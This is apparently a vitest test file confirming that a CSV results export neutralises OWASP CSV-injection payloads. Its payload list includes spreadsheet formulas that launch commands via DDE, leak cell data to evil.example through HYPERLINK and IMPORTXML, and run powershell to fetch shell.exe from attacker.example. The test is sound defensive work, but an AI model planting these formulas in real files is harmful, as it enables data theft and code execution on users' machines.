/**
 * CSV exports are safe to open in a spreadsheet: the OWASP CSV-injection payloads (OWASP's
 * "CSV Injection" page and its cheat sheet's examples), put where vendor or candidate text
 * lands, never reach a spreadsheet as a formula, whether it splits cells at commas, at
 * semicolons (many European locales) or at tabs.
 */
import { describe, expect, it } from 'vitest';
import { csvField, resultsCsv } from '@/lib/export/format';
import type { VendorOutcome } from '@/lib/model';
import { talentscreenOutcome } from '../helpers/outcomes';

const OWASP_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "SQL;=cmd|' /C calc'!A0",
  "Backend;+cmd|' /C calc'!A0",
  'a,=1+1',
  'a\t@SUM(1+1)',
  'Jane Doe\n-2+3+cmd',
  'x|=1+1',
];

/** Splits CSV text into rows of cells the way a spreadsheet does (RFC 4180 quoting), at `separator`. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** Whether a spreadsheet would run a cell: it starts (after blanks) with a formula character. */
const runsAsFormula = (cell: string) => /^[\s]*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);

const outcomeWith = (text: string): VendorOutcome => talentscreenOutcome('r1', text);

describe('CSV export against the OWASP CSV-injection payloads', () => {
  it.each(OWASP_PAYLOADS)('neutralises and quotes %j', (payload) => {
    const field = csvField(payload);
    expect(field.startsWith('"') && field.endsWith('"'), 'quoted').toBe(true);
    const csv = resultsCsv([outcomeWith(payload)]);
    for (const separator of [',', ';', '\t']) {
      for (const row of parseCsv(csv, separator)) {
        for (const cell of row) expect(runsAsFormula(cell), `${JSON.stringify(cell)} split at ${JSON.stringify(separator)}`).toBe(false);
      }
    }
    // The text itself survives for a person to read: only apostrophes were added.
    const [, data] = parseCsv(csv, ',');
    expect(data?.[1]?.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  it('leaves ordinary text and our own numbers as they were', () => {
    expect(csvField('Backend Engineering Assessment')).toBe('Backend Engineering Assessment');
    expect(csvField('2026-11-20T10:00:00Z')).toBe('2026-11-20T10:00:00Z');
    expect(csvField(-3)).toBe('-3');
    expect(csvField('Proctoring red flag; 2 copy-paste violations')).toBe('"Proctoring red flag; 2 copy-paste violations"');
  });
});
